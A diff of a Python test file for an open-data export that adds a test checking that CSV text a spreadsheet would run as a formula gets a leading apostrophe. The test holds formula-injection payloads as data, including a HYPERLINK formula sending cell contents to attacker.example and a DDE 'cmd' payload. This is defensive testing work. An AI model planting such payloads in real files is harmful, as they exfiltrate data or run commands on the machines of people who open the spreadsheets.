@@ -1,6 +1,7 @@
 import csv
 import io
 import json
+from decimal import Decimal
 from xml.etree import ElementTree as ET
 
 import pytest
@@ -9,10 +10,12 @@ from frictionless import Package, system
 
 from manifatture.activities.tests.factories import ActivityFactory, TimeSlotFactory
 from manifatture.bookings.services import cancel_booking
+from manifatture.directory.models import Organisation
 from manifatture.directory.tests.factories import OrganisationFactory, SiteFactory
 from manifatture.editions.tests.factories import EditionFactory
 from manifatture.opendata.dcat import IPA_CODE, NS
 from manifatture.opendata.resources import RESOURCES
+from manifatture.spaces.models import Space
 from manifatture.spaces.tests.factories import SpaceFactory
 
 from .conftest import SECRETS
@@ -132,6 +135,19 @@ def test_files_have_cors(client):
     assert response["Access-Control-Allow-Origin"] == "*"
 
 
+def validate_package(client, tmp_path):
+    """Download the data package and its CSV files into tmp_path; validate them."""
+    descriptor = client.get(reverse("opendata:datapackage")).json()
+    for resource in descriptor["resources"]:
+        response = client.get(resource["path"])
+        assert response.status_code == 200
+        (tmp_path / f"{resource['name']}.csv").write_bytes(response.content)
+        resource["path"] = f"{resource['name']}.csv"
+    (tmp_path / "datapackage.json").write_text(json.dumps(descriptor))
+    with system.use_context(trusted=True):
+        return Package(str(tmp_path / "datapackage.json")).validate()
+
+
 def test_datapackage_validates_with_frictionless(client, world, tmp_path):
     # A second host, fablab in another comune, with its own activity: foreign keys across files.
     other_org = OrganisationFactory()
@@ -145,14 +161,7 @@ def test_datapackage_validates_with_frictionless(client, world, tmp_path):
     descriptor = client.get(reverse("opendata:datapackage")).json()
     assert [r["name"] for r in descriptor["resources"]] == list(RESOURCES)
     assert descriptor["licenses"][0]["name"] == "CC-BY-4.0"
-    for resource in descriptor["resources"]:
-        response = client.get(resource["path"])
-        assert response.status_code == 200
-        (tmp_path / f"{resource['name']}.csv").write_bytes(response.content)
-        resource["path"] = f"{resource['name']}.csv"
-    (tmp_path / "datapackage.json").write_text(json.dumps(descriptor))
-    with system.use_context(trusted=True):
-        report = Package(str(tmp_path / "datapackage.json")).validate()
+    report = validate_package(client, tmp_path)
     assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
     # and it really checks: a slot pointing to a missing activity fails
     slots = (tmp_path / "slots.csv").read_text().splitlines()
@@ -255,3 +264,33 @@ def test_space_unpublished_leaves_the_files(client, world):
     space.is_published = False
     space.save()
     assert "Spazio temporaneo" not in client.get(file_url("spaces", "csv")).content.decode()
+
+
+def test_csv_text_a_spreadsheet_would_run_carries_an_apostrophe(client, world, tmp_path):
+    """Reusers open the CSV files in spreadsheets: text that would run as a formula
+    there gets a leading apostrophe (OWASP); the JSON files and the API give it as
+    written; numbers stay numbers; the data package still validates."""
+    formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Apri")'
+    Organisation.objects.filter(pk=world["organisation"].pk).update(
+        name=formula, description_it="-2+3+cmd|' /C calc'!A0"
+    )
+    Space.objects.filter(pk=world["space"].pk).update(
+        name="@SUM(1+1)", current_use="\t=1+1", longitude=Decimal("-0.127700")
+    )
+    [organisation] = read_csv(client, "organisations")
+    assert organisation["name"] == "'" + formula
+    assert organisation["description_it"] == "'-2+3+cmd|' /C calc'!A0"
+    [space] = read_csv(client, "spaces")
+    assert (space["name"], space["current_use"]) == ("'@SUM(1+1)", "'\t=1+1")
+    assert space["longitude"] == "-0.1277"  # a number, as written
+    [as_json] = client.get(file_url("organisations", "json")).json()
+    assert as_json["name"] == formula
+    api = client.get(reverse("api:organisations-detail", args=[world["organisation"].pk]))
+    assert api.json()["name"] == formula
+    descriptor = client.get(reverse("opendata:datapackage")).json()
+    assert "apostrofo" in descriptor["description"]
+    assert "apostrofo" in client.get(reverse("opendata:index")).content.decode()
+    english = client.get(reverse("opendata:index"), headers={"accept-language": "en"})
+    assert "extra apostrophe" in english.content.decode()
+    report = validate_package(client, tmp_path)
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
